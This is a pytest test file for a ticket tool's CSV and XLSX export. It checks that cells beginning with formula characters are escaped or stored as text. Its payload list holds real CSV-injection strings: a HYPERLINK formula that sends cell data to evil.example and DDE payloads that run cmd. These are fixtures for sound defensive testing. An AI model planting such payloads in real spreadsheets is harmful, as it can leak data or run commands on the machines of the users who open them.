"""Formula injection (issue 11): ticket subjects, categories and ASINs that start like a formula are
written with ``vendordesk tickets add`` and must come out of ``vendordesk export tickets`` as text.

OWASP (CSV injection): a cell beginning with ``= + - @``, tab or carriage return is prefixed with a
single quote. In XLSX the cell must be a string cell, never a formula. The text itself is kept.
"""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import pytest

from tests.corpus.harness import vendordesk

PAYLOADS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
    "dde-cmd": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at-sum": "@SUM(1+9)*cmd|' /C calc'!A0",
    "equals-simple": "=1+1",
    "tab-prefixed": "\t=1+1",
    "carriage-return-prefixed": "\r=1+1",
}
FIELDS = ("subject", "category", "asins")
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _case_id(n: int) -> str:
    return f"90000{n:02d}"


@pytest.fixture(scope="module")
def exported(template, tmp_path_factory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("export")
    home = folder / "home"
    home.mkdir()
    ws = folder / "account.vendordesk"
    shutil.copyfile(template.path, ws)
    for n, payload in enumerate(PAYLOADS.values()):
        run = vendordesk(home, "tickets", "add", "--workspace", str(ws), "--case-id", _case_id(n),
                         "--subject", payload, "--category", payload, "--asin", payload)
        assert run.code == 0, run.err
    out = {}
    for suffix in ("csv", "xlsx"):
        out[suffix] = folder / f"tickets.{suffix}"
        run = vendordesk(home, "export", "tickets", "--workspace", str(ws), "--out", str(out[suffix]))
        assert run.code == 0 and "Traceback" not in run.err, run.err
    return out


def _typed(payload: str, field: str) -> str:
    """What ``tickets add`` stores: the subject trimmed, ASINs trimmed and upper-cased, the category as typed."""
    if field == "subject":
        return payload.strip()
    if field == "asins":
        return payload.strip().upper()
    return payload


def _csv_cells(path: Path) -> dict[str, dict[str, str]]:
    with path.open(newline="", encoding="utf-8-sig") as handle:
        return {row["case_id"].lstrip("'"): row for row in csv.DictReader(handle)}


def _xlsx_cells(path: Path) -> dict[str, dict[str, object]]:
    from openpyxl import load_workbook

    sheet = load_workbook(path).active
    rows = list(sheet.iter_rows())
    names = [c.value for c in rows[0]]
    return {str(r[names.index("case_id")].value).lstrip("'"): dict(zip(names, r)) for r in rows[1:]}


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("label", PAYLOADS)
def test_csv_export_escapes_formula(exported, label, field):
    n = list(PAYLOADS).index(label)
    typed = _typed(PAYLOADS[label], field)
    cell = _csv_cells(exported["csv"]).get(_case_id(n), {}).get(field)
    assert cell is not None, f"the CSV row of case {_case_id(n)} is broken (a raw line break in a cell?)"
    assert not cell.startswith(DANGEROUS), f"{field} {cell!r} is written raw: a spreadsheet runs it"
    assert cell in (typed, "'" + typed), f"{field}: {cell!r} does not keep the text {typed!r}"


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("label", PAYLOADS)
def test_xlsx_export_writes_text_not_formula(exported, label, field):
    n = list(PAYLOADS).index(label)
    typed = _typed(PAYLOADS[label], field)
    cell = _xlsx_cells(exported["xlsx"])[_case_id(n)][field]
    assert cell.data_type != "f", f"{field} {cell.value!r} is a live formula"
    assert cell.value in (typed, "'" + typed), f"{field}: {cell.value!r} does not keep the text {typed!r}"
